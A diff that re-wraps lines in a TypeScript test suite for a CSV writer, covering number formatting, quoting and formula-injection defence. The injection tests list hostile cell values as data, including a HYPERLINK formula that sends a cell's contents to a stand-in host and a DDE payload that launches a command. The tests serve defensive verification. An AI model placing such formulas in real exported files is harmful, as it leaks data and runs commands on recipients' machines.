@@ -61,13 +61,46 @@ function oneColumn(values: number[]): RecordBatch {
   return new Table({ x: makeVector(Float64Array.from(values)) }).batches[0]!;
 }
 
-const encodedNumbers = (values: number[]) => encode([oneColumn(values)]).split('\n').slice(1, -1);
+const encodedNumbers = (values: number[]) =>
+  encode([oneColumn(values)])
+    .split('\n')
+    .slice(1, -1);
 
 describe('CSV numbers', { timeout: 120_000 }, () => {
   const awkward = [
-    0, -0, 1, -1, 2 ** 53, -(2 ** 53), 2 ** 53 + 2, 1e21, 1e-7, 1e-6, 1.5e-6, 999999999999999.9, 1e15, 0.1, 0.2, 0.3,
-    1 / 3, -2 / 3, 123.456, 5e-324, 2.2250738585072014e-308, 2.225073858507201e-308, Number.MAX_VALUE, -Number.MAX_VALUE,
-    Number.EPSILON, NaN, Infinity, -Infinity, 0.000001, 0.1 + 0.2, 4.35, 100.25, Number.parseFloat('9007199254740991.5'),
+    0,
+    -0,
+    1,
+    -1,
+    2 ** 53,
+    -(2 ** 53),
+    2 ** 53 + 2,
+    1e21,
+    1e-7,
+    1e-6,
+    1.5e-6,
+    999999999999999.9,
+    1e15,
+    0.1,
+    0.2,
+    0.3,
+    1 / 3,
+    -2 / 3,
+    123.456,
+    5e-324,
+    2.2250738585072014e-308,
+    2.225073858507201e-308,
+    Number.MAX_VALUE,
+    -Number.MAX_VALUE,
+    Number.EPSILON,
+    NaN,
+    Infinity,
+    -Infinity,
+    0.000001,
+    0.1 + 0.2,
+    4.35,
+    100.25,
+    Number.parseFloat('9007199254740991.5'),
   ];
 
   it('writes exactly String(n) (with -0 keeping its sign) for awkward doubles', () => {
@@ -75,9 +108,13 @@ describe('CSV numbers', { timeout: 120_000 }, () => {
   });
 
   it('writes exactly String(n) for random doubles, subnormals, integers and short decimals (differential)', () => {
-    const shortDecimal = fc.tuple(fc.integer({ min: -(10 ** 9), max: 10 ** 9 }), fc.integer({ min: 0, max: 21 })).map(([m, k]) => m / 10 ** k);
+    const shortDecimal = fc
+      .tuple(fc.integer({ min: -(10 ** 9), max: 10 ** 9 }), fc.integer({ min: 0, max: 21 }))
+      .map(([m, k]) => m / 10 ** k);
     const subnormal = fc.double({ min: -2.2250738585072014e-308, max: 2.2250738585072014e-308 });
-    const fromBits = fc.tuple(fc.integer({ min: 0, max: 2 ** 32 - 1 }), fc.integer({ min: 0, max: 2 ** 32 - 1 })).map(([lo, hi]) => new Float64Array(new Uint32Array([lo, hi]).buffer)[0]!);
+    const fromBits = fc
+      .tuple(fc.integer({ min: 0, max: 2 ** 32 - 1 }), fc.integer({ min: 0, max: 2 ** 32 - 1 }))
+      .map(([lo, hi]) => new Float64Array(new Uint32Array([lo, hi]).buffer)[0]!);
     const float32 = fc.float().map((x) => Math.fround(x));
     const value = fc.oneof(fc.double(), subnormal, fc.integer(), fc.maxSafeInteger(), shortDecimal, fromBits, float32);
     fc.assert(
@@ -100,7 +137,22 @@ describe('CSV numbers', { timeout: 120_000 }, () => {
 describe('CSV writer', { timeout: 120_000 }, () => {
   const text = fc.oneof(
     fc.string({ unit: 'grapheme', maxLength: 12 }),
-    fc.constantFrom('=1+1', '+cmd', '-2+3', '@SUM(1)', '\tx', '\rx', ' lead', 'trail ', 'a,b', 'say "hi"', 'two\nlines', 'ACC-01', 'ünï', ''),
+    fc.constantFrom(
+      '=1+1',
+      '+cmd',
+      '-2+3',
+      '@SUM(1)',
+      '\tx',
+      '\rx',
+      ' lead',
+      'trail ',
+      'a,b',
+      'say "hi"',
+      'two\nlines',
+      'ACC-01',
+      'ünï',
+      '',
+    ),
   );
   const nullable = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: null, freq: 5 });
   const day = fc.integer({ min: -800_000, max: 3_000_000 });
@@ -121,16 +173,46 @@ describe('CSV writer', { timeout: 120_000 }, () => {
   function batchOf(rows: (typeof row extends fc.Arbitrary<infer R> ? R : never)[]): RecordBatch {
     const column = <T extends DataType>(type: T, values: unknown[]) => vectorFromArray(values, type);
     return new Table({
-      f: column(new Float64(), rows.map((r) => r.f)),
-      f32: column(new Float32(), rows.map((r) => r.f32)),
-      i: column(new Int32(), rows.map((r) => r.i)),
-      s: column(new Utf8(), rows.map((r) => r.s)),
-      d: column(new Dictionary(new Utf8(), new Int32()), rows.map((r) => r.d)),
-      day: column(new DateDay(), rows.map((r) => (r.day === null ? null : new Date(r.day * 86_400_000)))),
-      date64: column(new DateMillisecond(), rows.map((r) => (r.date64 === null ? null : new Date(r.date64 * 86_400_000)))),
-      ts: column(new TimestampMillisecond(), rows.map((r) => r.ts)),
-      sec: column(new TimestampSecond(), rows.map((r) => (r.sec === null ? null : r.sec * 1000))),
-      b: column(new Bool(), rows.map((r) => r.b)),
+      f: column(
+        new Float64(),
+        rows.map((r) => r.f),
+      ),
+      f32: column(
+        new Float32(),
+        rows.map((r) => r.f32),
+      ),
+      i: column(
+        new Int32(),
+        rows.map((r) => r.i),
+      ),
+      s: column(
+        new Utf8(),
+        rows.map((r) => r.s),
+      ),
+      d: column(
+        new Dictionary(new Utf8(), new Int32()),
+        rows.map((r) => r.d),
+      ),
+      day: column(
+        new DateDay(),
+        rows.map((r) => (r.day === null ? null : new Date(r.day * 86_400_000))),
+      ),
+      date64: column(
+        new DateMillisecond(),
+        rows.map((r) => (r.date64 === null ? null : new Date(r.date64 * 86_400_000))),
+      ),
+      ts: column(
+        new TimestampMillisecond(),
+        rows.map((r) => r.ts),
+      ),
+      sec: column(
+        new TimestampSecond(),
+        rows.map((r) => (r.sec === null ? null : r.sec * 1000)),
+      ),
+      b: column(
+        new Bool(),
+        rows.map((r) => r.b),
+      ),
     }).batches[0]!;
   }
 
@@ -150,11 +232,16 @@ describe('CSV writer', { timeout: 120_000 }, () => {
     fc.assert(
       fc.property(fc.array(fc.tuple(text, fc.double()), { minLength: 1, maxLength: 30 }), (rows) => {
         const batch = new Table({
-          name: vectorFromArray(rows.map((r) => r[0]), new Utf8()),
+          name: vectorFromArray(
+            rows.map((r) => r[0]),
+            new Utf8(),
+          ),
           x: makeVector(Float64Array.from(rows.map((r) => r[1]))),
         }).batches[0]!;
         const parsed = parse(encode([batch]), { columns: true }) as { name: string; x: string }[];
-        expect(parsed.map((r) => r.name)).toEqual(rows.map(([name]) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)));
+        expect(parsed.map((r) => r.name)).toEqual(
+          rows.map(([name]) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)),
+        );
         expect(parsed.map((r) => Number(r.x))).toEqual(rows.map((r) => r[1]));
       }),
     );
@@ -197,7 +284,14 @@ describe('CSV writer', { timeout: 120_000 }, () => {
 });
 
 describe('CSV formula injection', { timeout: 120_000 }, () => {
-  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1'];
+  const hostile = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    '@SUM(1+1)',
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+  ];
 
   it('neutralises text that a spreadsheet would take for a formula (OWASP: a leading quote, and quoted)', () => {
     expect(csvText('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
